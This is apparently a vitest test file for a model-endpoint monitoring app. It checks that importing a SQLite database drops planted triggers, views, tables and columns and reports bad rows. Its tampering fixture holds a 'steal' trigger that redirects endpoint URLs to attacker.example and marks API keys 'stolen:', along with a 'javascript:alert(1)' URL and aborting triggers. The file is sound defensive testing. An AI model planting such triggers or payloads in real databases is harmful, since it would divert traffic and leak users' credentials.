import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createApi } from '../../../src/worker/api';
import { SCHEMA_VERSION } from '../../../src/db/schema';
import type { DB } from '../../../src/db/sql';
import type { ModelConfigInput } from '../../../src/lib/types';
import { openImage, sqlite } from '../db/helpers';

type Api = ReturnType<typeof createApi>;

const model = (name: string, args: ModelConfigInput['args'] = {}, extraArgs: string[] = []): ModelConfigInput => ({
  name, family: 'qwen', type: 'chat', status: 'draft', notes: '', args, extraArgs, catalogueId: null, endpointId: null, routerModel: null,
});

async function app(): Promise<Api> {
  const api = createApi({ storage: 'memory', retentionEveryMs: 0 });
  await api.init();
  return api;
}

/** A real app database with endpoints, models, history and settings, as a file (secrets included). */
async function realFile(): Promise<Uint8Array> {
  const api = await app();
  const home = api.addEndpoint({ kind: 'llama', name: 'home', url: 'http://127.0.0.1:8080', apiKey: 'sk-home', intervalMs: 1000, enabled: true });
  api.addEndpoint({ kind: 'exporter', name: 'gpu', url: 'http://127.0.0.1:9101', apiKey: null, intervalMs: 2000, enabled: true });
  api.saveFrames(Array.from({ length: 20 }, (_, i) => ({ endpointId: home.id, ts: 1_760_000_000_000 + i * 1000, values: { gen_tps: i, cpu: 1 } })));
  api.createModel(model('Qwen3 8B', { '--ctx-size': 8192 }));
  api.setMeta('ui.theme', 'dark');
  return api.exportDatabase(true).slice();
}

/** Opens an image with a plain (trusting) connection, runs `sql` on it and returns the new image. */
async function tamper(image: Uint8Array, sql: string): Promise<Uint8Array> {
  const db = await openImage(image);
  db.exec(sql);
  const out = (await sqlite()).capi.sqlite3_js_db_export(db);
  db.close();
  return out;
}

/** Runs `fn` on a read-only look at an image (the live database as exported with its secrets). */
async function inspect<T>(image: Uint8Array, fn: (db: DB) => T): Promise<T> {
  const db = await openImage(image);
  try {
    return fn(db);
  } finally {
    db.close();
  }
}

const schemaNames = (image: Uint8Array) =>
  inspect(image, (d) => d.selectValues("SELECT type || ' ' || name FROM sqlite_schema WHERE name NOT LIKE 'sqlite_%'").map(String));

/** Bad rows go in first: the planted triggers below would rewrite them. */
const PLANTED = `
  INSERT INTO endpoints(kind, name, url, api_key, interval_ms, enabled, created_at) VALUES
    ('llama', 'js', 'javascript:alert(1)', NULL, 1000, 1, 1), ('llama', 'hammer', 'http://10.0.0.9:8080', NULL, 10, 1, 1);
  INSERT INTO models(name, args, extra_args, created_at, updated_at) VALUES ('broken', '{"--ctx-size": 40', '[]', 1, 1);
  INSERT INTO frames(endpoint_id, ts, layout_id, vals) SELECT endpoint_id, ts + 500, layout_id, x'00' FROM frames LIMIT 3;
  CREATE TABLE extra_table(secret TEXT); INSERT INTO extra_table VALUES ('x');
  CREATE VIEW planted_view AS SELECT url, api_key FROM endpoints;
  CREATE INDEX planted_index ON endpoints(name);
  ALTER TABLE endpoints ADD COLUMN evil TEXT;
  DROP TABLE events;
  CREATE TABLE events(id INTEGER PRIMARY KEY, endpoint_id INTEGER NOT NULL, ts INTEGER NOT NULL, kind TEXT NOT NULL, bogus TEXT);
  INSERT INTO events(endpoint_id, ts, kind, bogus) VALUES (1, 1760000005000, 'restart', 'junk');
  CREATE TRIGGER steal AFTER INSERT ON endpoints BEGIN
    UPDATE endpoints SET url = 'https://attacker.example', api_key = 'stolen:' || coalesce(NEW.api_key, '') WHERE id = NEW.id;
  END;
  CREATE TRIGGER settings_rewrite AFTER INSERT ON metadata BEGIN UPDATE metadata SET value = '"hacked"' WHERE key = 'ui.theme'; END;
  CREATE TRIGGER no_models BEFORE INSERT ON models BEGIN SELECT RAISE(ABORT, 'planted trigger ran'); END;
`;

describe('an imported file is data, never code', () => {
  it('drops planted triggers, views, tables, indexes and columns, and names them and the bad rows', async () => {
    const crafted = await tamper(await realFile(), PLANTED);
    const api = await app();
    const r = api.importDatabase(crafted);
    expect(r.ok).toBe(true);

    const names = await schemaNames(api.exportDatabase(true));
    for (const planted of ['trigger steal', 'trigger settings_rewrite', 'trigger no_models', 'view planted_view', 'table extra_table', 'index planted_index']) {
      expect(names).not.toContain(planted);
      expect(r.message).toContain(planted);
    }
    expect(r.message).toContain('column endpoints.evil');
    expect(r.message).toContain('column events.bogus');
    expect(r.leftOut).toEqual(expect.arrayContaining(['trigger steal', 'view planted_view', 'column endpoints.evil']));

    // The trigger is gone: an endpoint added now keeps the address and key it was given.
    const added = api.addEndpoint({ kind: 'llama', name: 'new', url: 'http://192.168.1.20:8080', apiKey: 'sk-new', intervalMs: 1000, enabled: true });
    expect(api.listEndpoints().find((e) => e.id === added.id)).toMatchObject({ url: 'http://192.168.1.20:8080', apiKey: 'sk-new' });
    api.setMeta('ui.other', 1);
    expect(api.getMeta('ui.theme')).toBe('dark');
    api.createModel(model('after import'));
    expect(api.listModels().map((m) => m.name)).toEqual(['after import', 'Qwen3 8B']);

    expect(api.listEndpoints().map((e) => e.name)).toEqual(['home', 'gpu', 'new']);
    expect(api.listEndpoints().find((e) => e.id === 1)).toMatchObject({ url: 'http://127.0.0.1:8080', apiKey: 'sk-home' });
    expect(r.message).toMatch(/endpoint \d+ "js": "javascript:alert\(1\)" must start with http:\/\/ or https:\/\//);
    expect(r.message).toMatch(/endpoint \d+ "hammer": its poll interval 10 ms is below the app's minimum of 250 ms/);
    expect(r.message).toMatch(/model configuration \d+ "broken": its arguments are not a JSON object/);
    expect(r.metricSkips).toEqual({ frames: 3 });
    expect(api.events(1, 0, Number.MAX_SAFE_INTEGER)).toHaveLength(1);
  });

  it('names a row that breaks the app\'s table rules and keeps the others of that table', async () => {
    const file = await tamper(await realFile(), `
      ALTER TABLE endpoints RENAME TO old_endpoints;
      CREATE TABLE endpoints(id INTEGER PRIMARY KEY, kind TEXT, name TEXT, url TEXT, api_key TEXT, interval_ms INTEGER, enabled INTEGER, created_at INTEGER, from_link INTEGER);
      INSERT INTO endpoints SELECT * FROM old_endpoints;
      INSERT INTO endpoints VALUES (7, 'shell', 'odd', 'http://10.0.0.7:8080', NULL, 1000, 1, 1, 0), (8, 'llama', 'twin', 'http://127.0.0.1:8080', NULL, 1000, 1, 1, 0);
      DROP TABLE old_endpoints;`);
    const api = await app();
    const r = api.importDatabase(file);
    expect(r.ok).toBe(true);
    expect(r.skipped).toEqual([
      'endpoint 7 "odd": it does not fit the app\'s table (CHECK constraint failed: kind IN (\'llama\',\'exporter\',\'prometheus\'))',
      'endpoint 8 "twin": it does not fit the app\'s table (UNIQUE constraint failed: endpoints.kind, endpoints.url)',
    ]);
    expect(api.listEndpoints().map((e) => e.name)).toEqual(['home', 'gpu']);
  });

  it('copies every row of a file whose triggers would abort any write: none of them runs, not even during the check', async () => {
    const abortAll = ['endpoints', 'layouts', 'frames', 'frames_1m', 'frames_1h', 'events', 'models', 'catalogues', 'metadata']
      .flatMap((t) => ['INSERT', 'UPDATE', 'DELETE'].map((op) => `CREATE TRIGGER abort_${op}_${t} BEFORE ${op} ON ${t} BEGIN SELECT RAISE(ABORT, 'planted trigger ran'); END;`))
      .join('\n');
    const file = await tamper(await realFile(), abortAll);
    const api = await app();
    const r = api.importDatabase(file);
    expect(r.ok).toBe(true);
    api.addEndpoint({ kind: 'llama', name: 'new', url: 'http://10.1.1.1:8080', apiKey: null, intervalMs: 1000, enabled: true });
    api.createModel(model('writable'));
    expect(r).toMatchObject({ skipped: [], metricSkips: {} });
    expect(api.listEndpoints().map((e) => e.name)).toEqual(['home', 'gpu', 'new']);
    expect(api.history({ endpointId: 1, keys: ['gen_tps'], from: 0, to: 2e12, points: 1000 }).ts).toHaveLength(20);
    expect(await schemaNames(api.exportDatabase(true))).not.toContain('trigger abort_INSERT_endpoints');
  });

  it('imports a v1 file whose tables carry aborting triggers, with all its rows', async () => {
    const v1 = new Uint8Array(readFileSync('tests/fixtures/db/v1.sqlite3'));
    const abortAll = ['endpoints', 'metrics_history', 'model_configs', 'metadata']
      .map((t) => `CREATE TRIGGER abort_${t} BEFORE INSERT ON ${t} BEGIN SELECT RAISE(ABORT, 'planted trigger ran'); END;`).join('\n');
    const api = await app();
    const r = api.importDatabase(await tamper(v1, abortAll));
    expect(r).toMatchObject({ ok: true, migratedFrom: 1, skipped: [] });
    expect(r.leftOut).toEqual(expect.arrayContaining(['trigger abort_endpoints', 'trigger abort_model_configs']));
    expect(api.listEndpoints().map((e) => e.name)).toEqual(['Workstation', 'GPU box']);
    expect(api.listModels().map((m) => m.name)).toContain('Qwen3 8B chat');
  });

  it('imports the v2 fixture with its rows', async () => {
    const bytes = new Uint8Array(readFileSync('tests/fixtures/db/v2.sqlite3'));
    const expected = await inspect(bytes, (d) => ({
      endpoints: d.selectValues('SELECT name FROM endpoints ORDER BY id').map(String),
      models: d.selectValues('SELECT count(*) FROM models')[0],
      frames: d.selectValues('SELECT count(*) FROM frames')[0],
    }));
    const api = await app();
    const r = api.importDatabase(bytes);
    expect(r).toMatchObject({ ok: true, leftOut: [], skipped: [], metricSkips: {} });
    expect(api.listEndpoints().map((e) => e.name)).toEqual(expected.endpoints);
    expect(api.listModels()).toHaveLength(Number(expected.models));
    const frames = api.dbInfo().tables.find((t) => t.name === 'frames')!.rows;
    expect(frames).toBe(Number(expected.frames));
  });

  it('refuses foreign, newer and damaged files leaving every table exactly as it was', async () => {
    const api = await app();
    api.addEndpoint({ kind: 'llama', name: 'live', url: 'http://127.0.0.1:8080', apiKey: 'sk', intervalMs: 1000, enabled: true });
    api.createModel(model('live model'));
    const good = await realFile();
    const newer = await tamper(good, `PRAGMA user_version = ${SCHEMA_VERSION + 1}`);
    const foreign = await tamper(good, 'PRAGMA application_id = 7');
    const damaged = good.slice();
    damaged.fill(0x5a, 1024 * 2, 1024 * 6);
    const before = Buffer.from(api.exportDatabase(true));
    const rows = { endpoints: api.listEndpoints(), models: api.listModels() };
    for (const bad of [newer, foreign, damaged]) {
      const r = api.importDatabase(bad);
      expect(r.ok).toBe(false);
      expect({ endpoints: api.listEndpoints(), models: api.listModels() }).toEqual(rows);
      expect(Buffer.from(api.exportDatabase(true)).equals(before)).toBe(true);
    }
  });

  it('keeps the app connection from trusting schema functions', async () => {
    const s = await sqlite();
    const { openMemory } = await import('../../../src/db/open');
    const h = openMemory(s);
    expect(h.db.selectValue('PRAGMA trusted_schema')).toBe(0);
    h.db.close();
  });
});
